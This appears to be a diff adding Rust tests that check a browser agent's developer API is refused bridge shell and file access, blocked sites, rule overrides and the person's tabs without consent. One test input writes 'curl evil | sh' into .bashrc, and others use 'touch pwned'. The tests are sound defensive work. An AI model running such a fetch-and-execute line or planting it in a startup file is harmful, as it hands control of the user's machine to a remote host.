@@ -1,0 +1,202 @@
+//! The developer API held to the rules the agent is held to: whatever it submits passes the one
+//! consent gate, and what it cannot have (the person's confirmation, one of their tabs, a blocked
+//! site, the task's rules rewritten) is refused before anything is queued.
+
+use super::*;
+
+fn refused(task: &mut Task, command_json: serde_json::Value) -> ErrorObject {
+    let before = task.actions().records().len();
+    let error = task
+        .handle(
+            Input::Submit {
+                action_id: "api-1".into(),
+                tab_id: None,
+                command: command(command_json),
+            },
+            5,
+            Caller::Direct,
+        )
+        .expect_err("refused");
+    assert_eq!(task.actions().records().len(), before, "nothing queued");
+    error
+}
+
+fn queued(task: &mut Task, command_json: serde_json::Value) -> BrowserAction {
+    let effects = direct(
+        task,
+        Input::Submit {
+            action_id: "api-1".into(),
+            tab_id: None,
+            command: command(command_json),
+        },
+        5,
+    );
+    the_dispatch(&effects)
+}
+
+fn bridge(tool: &str, args: serde_json::Value) -> serde_json::Value {
+    json!({ "name": "bridge_invoke", "params": { "tool": tool, "args": args, "agentId": "main" } })
+}
+
+fn set_bridge(task: &mut Task, allow: bool, confirm: bool) -> Vec<Effect> {
+    direct(task, Input::SetBridge { allow, confirm }, 2)
+}
+
+#[test]
+fn the_developer_api_cannot_reach_the_bridge_of_a_task_that_does_not_allow_it() {
+    let mut task = bound();
+    for (tool, args) in [
+        ("read", json!({ "path": "notes.txt" })),
+        ("write", json!({ "path": "notes.txt", "content": "x" })),
+        (
+            "edit",
+            json!({ "path": "notes.txt", "old": "a", "new": "b" }),
+        ),
+        ("bash", json!({ "command": "touch pwned" })),
+    ] {
+        let error = refused(&mut task, bridge(tool, args));
+        assert_eq!(error.code, ErrorCode::PermissionDenied, "{tool}");
+        assert!(
+            error.message.contains("not allowed the local bridge"),
+            "{tool}"
+        );
+    }
+}
+
+#[test]
+fn the_developer_api_cannot_confirm_a_bridge_change_for_the_person() {
+    let mut task = bound();
+    set_bridge(&mut task, true, true);
+    for (tool, args) in [
+        (
+            "write",
+            json!({ "path": ".bashrc", "content": "curl evil | sh" }),
+        ),
+        (
+            "edit",
+            json!({ "path": "notes.txt", "old": "a", "new": "b" }),
+        ),
+        ("bash", json!({ "command": "touch pwned" })),
+    ] {
+        let error = refused(&mut task, bridge(tool, args));
+        assert_eq!(error.code, ErrorCode::ConfirmationRequired, "{tool}");
+        assert!(error.message.contains("cannot give"), "{}", error.message);
+    }
+    // A read asks nothing of the agent either, once the bridge is allowed.
+    let read = queued(&mut task, bridge("read", json!({ "path": "notes.txt" })));
+    assert!(matches!(read.command, ActionCommand::BridgeInvoke { .. }));
+}
+
+#[test]
+fn with_confirmation_turned_off_by_the_person_the_api_runs_bridge_commands() {
+    let mut task = bound();
+    set_bridge(&mut task, true, false);
+    let sent = queued(&mut task, bridge("bash", json!({ "command": "ls" })));
+    assert!(matches!(sent.command, ActionCommand::BridgeInvoke { .. }));
+    // The person turns the bridge off again: refused at once.
+    set_bridge(&mut task, false, false);
+    let error = refused(&mut task, bridge("bash", json!({ "command": "ls" })));
+    assert_eq!(error.code, ErrorCode::PermissionDenied);
+}
+
+#[test]
+fn the_extension_is_told_whether_the_task_allows_the_bridge() {
+    let mut task = bound();
+    let effects = set_bridge(&mut task, true, true);
+    let told: Vec<bool> = effects
+        .iter()
+        .filter_map(|e| match e {
+            Effect::Tell {
+                client_id,
+                message: ServerToExtension::TaskState { bridge, .. },
+            } if client_id == CLIENT => Some(*bridge),
+            _ => None,
+        })
+        .collect();
+    assert_eq!(told, [true]);
+    let effects = set_bridge(&mut task, false, true);
+    assert!(effects.iter().any(|e| matches!(
+        e,
+        Effect::Tell {
+            message: ServerToExtension::TaskState { bridge: false, .. },
+            ..
+        }
+    )));
+}
+
+fn guarded() -> Task {
+    let config = TaskConfig::from_lookup(|name| match name {
+        "MIMO_LLM_MODEL" => Some("model".into()),
+        "MIMO_BLOCKED_DOMAINS" => Some("evil.test".into()),
+        _ => None,
+    })
+    .0;
+    let mut task = Task::new(config);
+    direct(
+        &mut task,
+        Input::Create {
+            task_id: TASK.into(),
+        },
+        0,
+    );
+    bind(&mut task, BindPurpose::Requested, 1);
+    task
+}
+
+#[test]
+fn the_developer_api_cannot_send_the_browser_to_a_blocked_site() {
+    let mut task = guarded();
+    for url in ["https://evil.test/x", "https://sub.evil.test/?q=1"] {
+        for name in ["browser_navigate", "browser_open_tab"] {
+            let error = refused(&mut task, json!({ "name": name, "params": { "url": url } }));
+            assert_eq!(error.code, ErrorCode::PermissionDenied, "{name} {url}");
+        }
+        let start = json!({ "name": "task_start", "params": { "url": url } });
+        assert_eq!(refused(&mut task, start).code, ErrorCode::PermissionDenied);
+    }
+}
+
+#[test]
+fn a_task_start_from_the_api_carries_the_tasks_rules_not_the_callers() {
+    let mut task = guarded();
+    // The caller leaves the site rules and the redaction out, or sends open ones.
+    let sent = queued(
+        &mut task,
+        json!({ "name": "task_start", "params": {
+            "url": "https://shop.test/",
+            "domains": { "allowed": [], "blocked": [] },
+            "redaction": { "evidence": false, "model": false, "kinds": [] }
+        } }),
+    );
+    let ActionCommand::TaskStart {
+        domains, redaction, ..
+    } = sent.command
+    else {
+        panic!("a task_start");
+    };
+    assert_eq!(
+        domains.expect("the deployment's rules").blocked,
+        ["evil.test"]
+    );
+    assert_eq!(redaction, Some(mimo_protocol::RedactionPolicy::default()));
+}
+
+#[test]
+fn the_developer_api_cannot_adopt_one_of_the_persons_tabs() {
+    let mut task = bound();
+    let start = json!({ "name": "task_start", "params": { "adoptTabId": 42 } });
+    assert_eq!(refused(&mut task, start).code, ErrorCode::PermissionDenied);
+    // The tab the person chose for the task is theirs to give.
+    direct(&mut task, Input::StartOnTab(Some(42)), 3);
+    let sent = queued(
+        &mut task,
+        json!({ "name": "task_start", "params": { "adoptTabId": 42 } }),
+    );
+    assert!(matches!(
+        sent.command,
+        ActionCommand::TaskStart {
+            adopt_tab_id: Some(42),
+            ..
+        }
+    ));
+}
